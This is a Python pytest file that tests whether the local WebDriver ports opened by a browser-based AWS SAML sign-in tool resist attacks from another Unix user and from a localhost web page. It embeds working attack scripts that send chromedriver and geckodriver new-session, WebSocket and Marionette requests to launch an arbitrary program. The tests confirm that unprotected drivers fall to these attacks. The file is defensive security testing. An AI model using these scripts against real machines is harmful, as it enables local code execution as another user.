"""The ports that a sign-in opens, attacked by another user and by a page of a localhost origin."""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import psutil
import pytest

from aws_saml_ext.capture.browser import chromium as chromium_engine
from aws_saml_ext.capture.browser import firefox as firefox_engine
from aws_saml_ext.capture.browser.driver import DriverServer
from aws_saml_ext.capture.browser.engine import WatchedBrowser
from tests import web
from tests.browsers import chromium, profile, settings
from tests.geckodriver import firefox, firefox_settings
from tests.patience import until
from tests.users import gated_system, other_user
from tests.web import Answer

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(sys.platform != "linux", reason="reads the ports as Linux shows them"),
]

ATTACK_SECONDS = 90


def listening_ports() -> set[int]:
    """Return the ports on which this process and its descendants listen, by the system."""
    found = set()
    this = psutil.Process()
    for process in [this, *this.children(recursive=True)]:
        try:
            connections = getattr(process, "net_connections", None) or process.connections
            listening = [each for each in connections("inet") if each.status == "LISTEN"]
        except psutil.Error:  # it has ended
            continue
        found |= {each.laddr.port for each in listening}
    return found


@dataclass
class SignIn:
    """A browser as in a sign-in, the ports that came with it, and what an attack would leave."""

    browser: WatchedBrowser
    ports: list[int]
    marker: Path
    """A file that exists once the attacker's program has run."""
    program: Path
    """The attacker's program."""

    def check_unharmed(self) -> None:
        """Fail if an attack has run a program, ended or used the browser, or posted to us."""
        assert not self.marker.exists()
        self.browser.open("about:blank")
        assert until(lambda: self.browser.driver.current_url == "about:blank")
        assert self.browser.posted(0) is None


@pytest.fixture(scope="module", params=["Chromium", "Firefox"])
def sign_in(request: pytest.FixtureRequest, tmp_path_factory: Any) -> Iterator[SignIn]:
    folder = tmp_path_factory.mktemp("ports")
    before = listening_ports()
    with started(request.param, profile(folder / "profile")) as browser:
        ports = sorted(listening_ports() - before)
        assert ports
        yield SignIn(browser, ports, *marking_program(folder))


@contextmanager
def started(name: str, folder: Path) -> Iterator[WatchedBrowser]:
    if name == "Chromium":
        starting = chromium_engine.start(chromium(), settings(), folder, True)
    else:
        starting = firefox_engine.start(firefox(), firefox_settings(), folder, True)
    with starting as browser:
        yield browser


def marking_program(folder: Path) -> tuple[Path, Path]:
    marker, program = folder / "it-ran", folder / "program"
    program.write_text(f"#!/bin/sh\ntouch {marker}\n")
    program.chmod(0o755)
    return marker, program


FORM = "SAMLResponse=QUJD"


def new_session(program: Path) -> dict[str, Any]:
    """Return the parameters of a session whose browser is the attacker's program."""
    options = {"binary": str(program), "args": []}
    names = ("goog:chromeOptions", "moz:firefoxOptions")
    return {"capabilities": {"firstMatch": [{name: options} for name in names]}}


def requests(program: Path) -> list[tuple[str, str, str]]:
    """Return the requests of an attack: method, path and body."""
    wanted = json.dumps(new_session(program))
    return [
        ("GET", "/status", ""),
        ("GET", "/sessions", ""),
        ("POST", "/session", wanted),
        ("POST", "/saml", FORM),
        ("GET", "/shutdown", ""),
        ("POST", "/shutdown", ""),
    ]


# ---- another user ----

AS_ANOTHER_USER = """
import encodings.idna, encodings.latin_1, json, os, socket, sys
# From here on the files of this Python may be out of reach: everything is imported.
os.setgroups([]); os.setgid(65534); os.setuid(65534)

def say(port, data, more=b""):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.5) as connection:
            connection.sendall(data)
            answer = connection.recv(65536)
            if more and answer:
                connection.sendall(more)
                answer += connection.recv(65536)
            return answer.decode("latin-1")
    except OSError as error:
        return ""

def http(port, method, path, body, host):
    return say(port, (
        f"{method} {path} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n"
        "Content-Type: application/x-www-form-urlencoded\\r\\n"
        f"Content-Length: {len(body)}\\r\\n\\r\\n{body}"
    ).encode())

HANDSHAKE = (
    "GET /session HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\nUpgrade: websocket\\r\\n"
    "Connection: Upgrade\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\n"
    "Sec-WebSocket-Version: 13\\r\\n\\r\\n"
)
def frame(command):
    data = json.dumps(command).encode()
    return b"\\x81" + bytes([0x80 | 126]) + len(data).to_bytes(2, "big") + bytes(4) + data

answers = []
for port in json.loads(sys.argv[1]):
    own = f"127.0.0.1:{port}"
    for method, path, body in json.loads(sys.argv[2]):
        answers.append([port, f"{method} {path}", http(port, method, path, body, own)])
    for command in ("session.new", "browsingContext.getTree"):
        params = json.loads(sys.argv[3]) if command == "session.new" else {}
        asked = frame({"id": 1, "method": command, "params": params})
        answers.append([port, command, say(port, HANDSHAKE.format(port=port).encode(), asked)])
    marionette = json.dumps([0, 1, "WebDriver:NewSession", {}])
    answers.append([port, "marionette", say(port, f"{len(marionette)}:{marionette}".encode())])
    host, form = "signin.aws.amazon.com", "SAMLResponse=QUJD"
    answers.append([port, "proxied", http(port, "POST", f"http://{host}/saml", form, host)])
    answers.append([port, "CONNECT", http(port, "CONNECT", f"{host}:443", "", f"{host}:443")])
print(json.dumps(answers))
"""


def attack_as_another_user(
    ports: Sequence[int], program: Path
) -> Mapping[tuple[int, str], list[str]]:
    """Return the answers to each attack, by port and name."""
    words = [json.dumps(ports), json.dumps(requests(program)), json.dumps(new_session(program))]
    command = [sys.executable, "-I", "-c", AS_ANOTHER_USER, *words]
    done = subprocess.run(
        command, capture_output=True, text=True, timeout=ATTACK_SECONDS, check=True
    )
    answers: dict[tuple[int, str], list[str]] = {}
    for port, name, answer in json.loads(done.stdout):
        answers.setdefault((port, name), []).append(answer)
    return answers


@gated_system
@other_user
def test_another_user_gets_no_answer_from_any_port(sign_in: SignIn) -> None:
    answers = attack_as_another_user(sign_in.ports, sign_in.program)
    for (port, name), texts in answers.items():
        for text in texts:
            assert text == "", (port, name, text)
    sign_in.check_unharmed()


WAITS_FOR_THE_PORT = """
import os, socket, sys, time
os.setgroups([]); os.setgid(65534); os.setuid(65534)
port, handshake, command = int(sys.argv[1]), *map(bytes.fromhex, sys.argv[2:])
print("ready", flush=True)
end, kept = time.monotonic() + 30, []
while time.monotonic() < end:
    connection = socket.socket()
    connection.settimeout(0.5)
    try:
        connection.connect(("127.0.0.1", port))
        kept.append(connection)
        connection.sendall(handshake)
        if connection.recv(4096):
            connection.sendall(command)
    except OSError:
        pass
"""
"""Sends a command by WebSocket at the first moment at which a port listens, again and again."""


def start_of_a_session(port: int, program: Path) -> tuple[bytes, bytes]:
    """Return a handshake of WebSocket, and the frame that makes chromedriver start `program`."""
    command = {"id": 1, "method": "session.new", "params": new_session(program)}
    data = json.dumps(command).encode()
    lines = [
        "GET /session HTTP/1.1",
        f"Host: 127.0.0.1:{port}",
        "Upgrade: websocket",
        "Connection: Upgrade",
        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
        "Sec-WebSocket-Version: 13",
    ]
    frame = b"\x81\xfe" + len(data).to_bytes(2, "big") + bytes(4) + data
    return "\r\n".join([*lines, "", ""]).encode(), frame


@gated_system
@other_user
def test_another_user_who_waits_for_the_port_is_never_served(tmp_path: Path) -> None:
    marker, program = marking_program(tmp_path)
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    command = [str(chromium().driver), f"--port={port}"]
    words = [sys.executable, "-I", "-c", WAITS_FOR_THE_PORT, str(port)]
    words += [sent.hex() for sent in start_of_a_session(port, program)]
    with subprocess.Popen(words, stdout=subprocess.PIPE) as attacker:
        try:
            assert attacker.stdout is not None
            attacker.stdout.readline()
            for _ in range(5):
                driver = DriverServer(
                    command, ready=r"successfully on port (\d+)", environ=os.environ
                )
                try:
                    assert driver.url
                    driver.gate.connect(port, 5).close()
                    assert not until(marker.exists, seconds=0.2)
                finally:
                    driver.end()
        finally:
            attacker.kill()


@other_user
@pytest.mark.parametrize("switches", [(), ("--url-base=/secret",)], ids=["", "a secret alone"])
def test_the_attack_of_another_user_works_on_a_driver_without_a_gate(
    switches: Sequence[str], tmp_path: Path
) -> None:
    marker, program = marking_program(tmp_path)
    with unprotected_driver(*switches) as port:
        # Its requests are bounded in time, and a busy machine may need another round.
        for _ in range(4):
            attack_as_another_user([port], program)
            if until(marker.exists):
                break
        assert marker.exists()


def test_the_secret_of_the_driver_stands_in_no_command_line(tmp_path: Path) -> None:
    with started("Chromium", profile(tmp_path / "profile")) as browser:
        address: str = browser.driver.command_executor._client_config.remote_server_addr  # type: ignore[union-attr]
        secret = address.rpartition("/")[2]
        assert len(secret) > 40
        lines = [
            word
            for process in psutil.Process().children(recursive=True)
            for word in process.cmdline()
        ]
        assert [word for word in lines if word.startswith("--url-base=/**")]
        assert [word for word in lines if secret in word] == []


# ---- a page ----

PAGE = """<title>working</title><script>
const ports = PORTS, requests = REQUESTS, gained = []
async function attack(port, [method, path, body]) {
  const url = `http://HOST:${port}${path}`, text = method === 'GET' ? undefined : body
  const within = () => AbortSignal.timeout(2000)
  await fetch(url, {method, body: text, mode: 'no-cors', signal: within()}).catch(() => 0)
  await fetch(url, {method, body: text, signal: within()})
    .then(answer => answer.text()).then(text => gained.push(url + text)).catch(() => 0)
}
const socket = url => new Promise(done => {
  const opened = new WebSocket(url)
  opened.onopen = () => {
    gained.push(url)
    opened.send(JSON.stringify({id: 1, method: 'session.new', params: PARAMETERS}))
  }
  opened.onerror = done
  setTimeout(done, 2000)
})
;(async () => {
  for (const port of ports) {
    await Promise.all([
      ...requests.map(each => attack(port, each)),
      socket(`ws://HOST:${port}/session`),
      socket(`ws://HOST:${port}/`),
    ])
  }
  document.title = 'gained ' + JSON.stringify(gained)
})()
</script>"""


def attack_as_a_page(
    browser: WatchedBrowser, ports: Sequence[int], program: Path, host: str
) -> list[str]:
    """Return what a page of another localhost origin could read or open."""
    page = PAGE.replace("PORTS", json.dumps(ports)).replace("HOST", host)
    page = page.replace("PARAMETERS", json.dumps(new_session(program)))
    page = page.replace("REQUESTS", json.dumps(requests(program)))
    with web.serving({"/": Answer(page)}) as site:
        browser.open(site.url("/", host="localhost"))
        assert until(lambda: browser.driver.title.startswith("gained"), seconds=ATTACK_SECONDS)
        gained: list[str] = json.loads(browser.driver.title.removeprefix("gained "))
    return gained


@gated_system
@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_page_of_a_localhost_origin_reads_nothing_and_changes_nothing(
    host: str, sign_in: SignIn
) -> None:
    assert attack_as_a_page(sign_in.browser, sign_in.ports, sign_in.program, host) == []
    sign_in.check_unharmed()


@pytest.mark.parametrize("switches", [(), ("--url-base=/secret",)], ids=["", "a secret alone"])
def test_the_attack_of_a_page_works_on_a_driver_without_a_gate(
    switches: Sequence[str], tmp_path: Path
) -> None:
    marker, program = marking_program(tmp_path)
    with (
        started("Chromium", profile(tmp_path / "profile")) as browser,
        unprotected_driver(*switches) as port,
    ):
        # Its requests are bounded in time, and a busy machine may need another round.
        for _ in range(4):
            attack_as_a_page(browser, [port], program, "127.0.0.1")
            if until(marker.exists):
                break
        assert marker.exists()


@contextmanager
def unprotected_driver(*switches: str) -> Iterator[int]:
    """A driver with no gate, and no secret unless `switches` have one."""
    command = [str(chromium().driver), "--port=0", *switches]
    for _ in range(4):  # it ends where the port that it chose for IPv4 is taken for IPv6
        with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as driver:
            try:
                assert driver.stdout is not None
                ports = (re.search(r"successfully on port (\d+)", line) for line in driver.stdout)
                port = next((int(found[1]) for found in ports if found), None)
                if port is not None:
                    yield port
                    return
            finally:
                driver.kill()
    pytest.fail("No driver started.")
